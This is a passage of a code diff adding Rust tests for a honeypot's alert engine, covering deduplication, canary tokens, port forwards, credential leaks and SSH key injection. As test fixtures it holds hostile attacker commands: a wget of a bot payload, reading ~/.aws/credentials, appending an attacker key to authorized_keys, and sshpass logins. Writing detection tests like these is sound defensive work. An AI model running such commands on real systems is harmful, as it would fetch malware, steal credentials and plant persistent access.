+        let history = Arc::new(parking_lot::Mutex::new(AlertHistory::load(&config).unwrap()));
+        let mut after = engine().with_history(history.clone());
+        after.trigger_alert(blacklisted());
+        assert_eq!(after.get_alerts().len(), 0);
+        assert_eq!(history.lock().alerts().len(), 1);
+    }
+
+    #[test]
+    fn identical_alerts_in_the_window_are_counted_on_one() {
+        let mut engine = engine();
+        for _ in 0..100 {
+            engine.trigger_alert(AlertType::BlacklistedIp { ip: "203.0.113.7".to_string() });
+        }
+
+        assert_eq!(engine.alerts.len(), 1);
+        assert_eq!(engine.alerts[0].count, 100);
+    }
+
+    #[test]
+    fn the_same_condition_across_sessions_is_counted() {
+        let mut engine = engine();
+        for session in 0..100 {
+            engine.trigger_alert(command(&format!("s{}", session), "wget http://x/bot"));
+        }
+
+        assert_eq!(engine.alerts.len(), 1);
+        assert_eq!(engine.alerts[0].count, 100);
+    }
+
+    #[test]
+    fn rescanning_a_session_raises_nothing_again() {
+        let mut engine = engine();
+        engine.trigger_alert(command("s1", "wget http://x/bot"));
+        engine.trigger_alert(command("s1", "wget http://x/bot"));
+        assert_eq!(engine.alerts[0].count, 1);
+
+        // Not even once the window has passed
+        engine.alerts[0].timestamp = Utc::now() - chrono::Duration::hours(1);
+        engine.trigger_alert(command("s1", "wget http://x/bot"));
+        assert_eq!(engine.alerts.len(), 1);
+        assert_eq!(engine.alerts[0].count, 1);
+    }
+
+    #[test]
+    fn a_repeat_after_the_window_raises_a_fresh_alert() {
+        let mut engine = engine();
+        engine.trigger_alert(command("s1", "wget http://x/bot"));
+        engine.alerts[0].timestamp = Utc::now() - chrono::Duration::hours(1);
+        engine.trigger_alert(command("s2", "wget http://x/bot"));
+
+        assert_eq!(engine.alerts.len(), 2);
+        assert_eq!(engine.alerts[1].count, 1);
+    }
+
+    #[test]
+    fn canary_hits_are_never_folded() {
+        let mut engine = engine();
+        for session in ["s1", "s2", "s3"] {
+            engine.trigger_alert(AlertType::CanaryTriggered {
+                token_name: "aws-key".to_string(),
+                session_id: session.to_string(),
+                command: "cat ~/.aws/credentials".to_string(),
+            });
+        }
+
+        assert_eq!(engine.alerts.len(), 3);
+        assert!(engine.alerts.iter().all(|alert| alert.count == 1));
+    }
+
+    #[tokio::test]
+    async fn a_canary_only_in_the_output_is_reported() {
+        use crate::config::settings::CanaryToken;
+        use crate::config::Config;
+        use crate::core::cast;
+        use crate::data::testing::{at, command as logged, session, tty_log};
+
+        let mut config = Config::default();
+        config.canaries.tokens.push(CanaryToken { name: "aws-key".to_string(), token: "AKIAFAKE".to_string() });
+        let mut engine = engine().with_canaries(Canaries::from_config(&config).unwrap());
+
+        // The command itself gives nothing away
+        let entry = logged("c0ffee", "203.0.113.7", "cat .aws/credentials", at(1));
+        engine.process_log_entry(&entry).await.unwrap();
+        assert!(engine.alerts.is_empty());
+
+        // Until the terminal log shows what it printed
+        let mut session = session("c0ffee", "203.0.113.7", at(0));
+        session.commands.push(crate::data::Command {
+            command: "cat .aws/credentials".to_string(),
+            timestamp: at(1),
+            success: true,
+            output: None,
+        });
+        let log = tty_log(&[
+            (1, 1, "cat .aws/credentials\r"),
+            (2, 1, "\r\naws_access_key_id=AKIAFAKE\r\n# "),
+        ]);
+        cast::attach_outputs(&mut session.commands, &cast::convert(&log).unwrap());
+        engine.process_session_update(&session).await.unwrap();
+        engine.process_session_update(&session).await.unwrap();
+
+        assert_eq!(engine.alerts.len(), 1);
+        assert!(matches!(
+            &engine.alerts[0].alert_type,
+            AlertType::CanaryTriggered { token_name, command, .. }
+                if token_name == "aws-key" && command == "cat .aws/credentials"
+        ));
+    }
+
+    #[tokio::test]
+    async fn covering_tracks_is_alerted_once_per_session() {
+        let mut engine = engine();
+        let mut session = crate::data::testing::session("abc", "203.0.113.7", crate::data::testing::at(0));
+        session.tags.push("anti-forensics".to_string());
+        engine.process_session_update(&session).await.unwrap();
+        engine.process_session_update(&session).await.unwrap();
+
+        assert_eq!(engine.alerts.len(), 1);
+        assert!(matches!(
+            &engine.alerts[0].alert_type,
+            AlertType::AntiForensics { session_id, src_ip } if *session_id == session.id && src_ip == "203.0.113.7"
+        ));
+    }
+
+    #[tokio::test]
+    async fn forwards_to_sensitive_ports_are_alerted_once_per_destination() {
+        let mut engine = engine();
+        let mut session = crate::data::testing::session("abc", "203.0.113.50", at(0));
+        session.forwards = [("smtp.gmail.com", 25), ("ip-api.com", 80), ("smtp.gmail.com", 25), ("2001:db8::5", 445)].iter()
+            .map(|(host, port)| crate::data::TcpForward { dst_host: host.to_string(), dst_port: *port, timestamp: at(1) })
+            .collect();
+        engine.process_session_update(&session).await.unwrap();
+        engine.process_session_update(&session).await.unwrap();
+
+        let destinations: Vec<&str> = engine.alerts.iter()
+            .filter_map(|alert| match &alert.alert_type {
+                AlertType::SensitiveForward { src_ip, destination, .. } if src_ip == "203.0.113.50" => Some(destination.as_str()),
+                _ => None,
+            })
+            .collect();
+        assert_eq!(destinations, ["smtp.gmail.com:25", "[2001:db8::5]:445"]);
+    }
+
+    #[tokio::test]
+    async fn leaked_credentials_and_planted_keys_are_alerted_once_each() {
+        let mut engine = engine();
+        let mut session = crate::data::testing::session("abc", "203.0.113.7", at(0));
+        session.commands = [
+            "export PASS=hunter2",
+            "echo 'ssh-rsa AAAAB3NzaC1yc2E mdrfckr' >> ~/.ssh/authorized_keys",
+            "sshpass -p hunter2 ssh root@10.0.0.5",
+            "export SECRET=other",
+        ].iter()
+            .map(|command| crate::data::Command { command: command.to_string(), timestamp: at(1), success: true, output: None })
+            .collect();
+        session.tags = vec![CREDENTIAL_LEAK_TAG.to_string(), "persist-ssh-key".to_string()];
+        engine.process_session_update(&session).await.unwrap();
+        engine.process_session_update(&session).await.unwrap();
+
+        let raised: Vec<String> = engine.alerts.iter()
+            .map(|alert| match &alert.alert_type {
+                AlertType::CredentialLeak { kind, .. } => kind.clone(),
+                AlertType::SshKeyInjection { key, .. } => key.clone(),
+                other => panic!("unexpected {:?}", other),
+            })
+            .collect();
+        // A second secret variable is the same kind from the same address
+        assert_eq!(raised, ["secret variable", "ssh-rsa AAAAB3NzaC1yc2E mdrfckr", "password option"]);
+    }
+
+    /// A risky session covering its tracks, closed if `closed`
+    fn risky_session(logged_id: &str, closed: bool) -> Session {
+        let mut session = crate::data::testing::session(logged_id, "203.0.113.7", crate::data::testing::at(0));
+        session.tags.push("anti-forensics".to_string());
+        session.malicious_score = 90;
+        if closed {
+            session.end_time = Some(crate::data::testing::at(60));
+        }
+        session
+    }
+
+    #[tokio::test]
+    async fn closed_sessions_are_forgotten_after_the_retention() {
+        let mut engine = engine();
+        engine.process_session_update(&risky_session("open", false)).await.unwrap();
+        engine.process_session_update(&risky_session("closed", true)).await.unwrap();
+        engine.trigger_alert(command("closed", "wget http://x/bot"));
+        assert_eq!(engine.anti_forensics_sessions.len(), 2);
+        assert_eq!(engine.high_risk_sessions.len(), 2);
+        assert_eq!(engine.raised.len(), 5);
+
+        // Within the retention a late update raises nothing again
+        let raised = engine.alerts.len();
+        engine.forget_closed_sessions(Utc::now());
+        engine.process_session_update(&risky_session("closed", true)).await.unwrap();
+        assert_eq!(engine.alerts.len(), raised);
+
+        let later = Utc::now() + chrono::Duration::seconds(CLOSED_SESSION_RETENTION_SECS);
+        engine.forget_closed_sessions(later);
+        let open = risky_session("open", false).id;
+        assert_eq!(engine.anti_forensics_sessions, HashSet::from([open.clone()]));
+        assert_eq!(engine.high_risk_sessions, HashSet::from([open.clone()]));
+        assert!(engine.raised.iter().all(|(id, _)| id.as_ref() == Some(&open)));
+        assert!(engine.closed_sessions.is_empty());
+    }
+
+    #[test]
+    fn without_a_window_each_condition_is_raised_once() {
+        let (event_tx, _) = broadcast::channel(16);
+        let config = AlertConfig { dedup_window_secs: 0, ..AlertConfig::default() };
+        let mut engine = AlertEngine::new(config, event_tx);
+        engine.trigger_alert(AlertType::BlacklistedIp { ip: "203.0.113.7".to_string() });
+        engine.trigger_alert(AlertType::BlacklistedIp { ip: "203.0.113.7".to_string() });
+        engine.trigger_alert(command("s1", "wget http://x/bot"));
+        engine.trigger_alert(command("s2", "wget http://x/bot"));
+
+        assert_eq!(engine.alerts.len(), 3);
+    }
+
+    /// One alert of every kind, with every optional field set
+    fn every_variant() -> Vec<AlertType> {
+        let (session_id, src_ip) = ("c0ffee01".to_string(), "203.0.113.7".to_string());
+        vec![
+            AlertType::SuccessfulLogin { session_id: session_id.clone(), username: "root".to_string(), src_ip: src_ip.clone() },
+            AlertType::FileUpload {
+                session_id: session_id.clone(),
+                filename: "bot.sh".to_string(),
+                shasum: Some("e3b0c442".to_string()),
+                hash_list: Some("malwarebazaar".to_string()),
+            },
+            AlertType::SuspiciousCommand {
+                session_id: session_id.clone(),
+                command: "wget http://x/bot".to_string(),
+                severity: Some(Severity::High),
+                score: Some(80),
+            },
+            AlertType::NewSourceIp { ip: src_ip.clone() },
+            AlertType::BlacklistedIp { ip: src_ip.clone() },
+            AlertType::AntiForensics { session_id: session_id.clone(), src_ip: src_ip.clone() },
+            AlertType::HighRiskActivity { session_id: session_id.clone(), risk_score: 95, reason: "Downloaded malware".to_string() },
+            AlertType::SensitiveForward {
+                session_id: session_id.clone(),
+                src_ip: src_ip.clone(),
+                destination: "10.0.0.5:3306".to_string(),
+            },
+            AlertType::CanaryTriggered {
+                token_name: "aws key".to_string(),
+                session_id: session_id.clone(),
+                command: "cat ~/.aws/credentials".to_string(),
+            },
+            AlertType::CredentialLeak { session_id: session_id.clone(), src_ip: src_ip.clone(), kind: "password option".to_string() },
+            AlertType::SshKeyInjection { session_id, src_ip, key: "ssh-rsa AAAAB3Nz mdrfckr".to_string() },
+            AlertType::Anomaly {
+                metric: "Session rate".to_string(),
+                hour: at(3_600),
+                current: 420,
+                usual: 35,
+                severe: true,
+            },
+        ]
+    }
+
+    #[test]
+    fn every_alert_type_round_trips_through_json() {
+        for alert_type in every_variant() {
+            let json = serde_json::to_string(&alert_type).unwrap();
+            assert_eq!(serde_json::from_str::<AlertType>(&json).unwrap(), alert_type, "{}", json);
+        }
+    }
+
+    #[test]
+    fn alerts_serialize_as_structured_objects() {
+        let alert = Alert {
+            alert_type: AlertType::BlacklistedIp { ip: "203.0.113.7".to_string() },
+            timestamp: at(0),
+            acknowledged: false,
+            message: "Blacklisted IP: 203.0.113.7".to_string(),
+            severity: Severity::Medium,
+            techniques: vec!["T1110".to_string()],
+            count: 3,
+            last_seen: Some(at(90)),
+        };
+
+        let value = serde_json::to_value(alert).unwrap();
+        assert_eq!(value, json!({
+            "alert_type": {"BlacklistedIp": {"ip": "203.0.113.7"}},
+            "timestamp": "2023-11-14T22:13:20Z",
+            "acknowledged": false,
+            "message": "Blacklisted IP: 203.0.113.7",
+            "severity": "medium",
+            "techniques": ["T1110"],
+            "count": 3,
+            "last_seen": "2023-11-14T22:14:50Z",
+        }));
+
+        let parsed: Alert = serde_json::from_value(value.clone()).unwrap();
+        assert_eq!(serde_json::to_value(parsed).unwrap(), value);
+    }
+
+    #[test]
+    fn alerts_saved_before_severities_get_the_defaults() {
+        let alert: Alert = serde_json::from_value(json!({
+            "alert_type": {"NewSourceIp": {"ip": "198.51.100.23"}},
+            "timestamp": "2023-11-14T22:13:20Z",
+            "acknowledged": true,
+            "message": "New source IP: 198.51.100.23",
+        }))
+        .unwrap();
+
+        assert_eq!(alert.timestamp, at(0));
+        assert_eq!(alert.severity, Severity::Info);
+        assert!(alert.techniques.is_empty());
+        assert_eq!((alert.count, alert.last_seen), (1, None));
+    }
+}